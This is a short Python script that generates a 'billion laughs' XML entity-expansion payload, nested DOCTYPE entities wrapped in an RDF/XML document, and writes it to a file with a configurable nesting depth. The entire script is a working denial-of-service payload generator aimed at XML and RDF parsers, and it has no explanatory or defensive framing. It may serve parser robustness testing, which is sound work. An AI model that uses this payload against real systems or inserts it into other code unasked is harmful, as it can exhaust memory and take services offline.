import sys
def laughs(levels=9, width=10):
    ents = ['<!ENTITY l0 "lollollollollollollollollollol">']
    for i in range(1, levels+1):
        ents.append(f'<!ENTITY l{i} "' + f"&l{i-1};"*width + '">')
    return ('<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [' + "\n".join(ents) + ']>\n'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex/">'
            f'<rdf:Description rdf:about="http://ex/a"><ex:p>&l{levels};</ex:p></rdf:Description></rdf:RDF>').encode()
if __name__ == "__main__":
    open(sys.argv[1], "wb").write(laughs(int(sys.argv[2])))
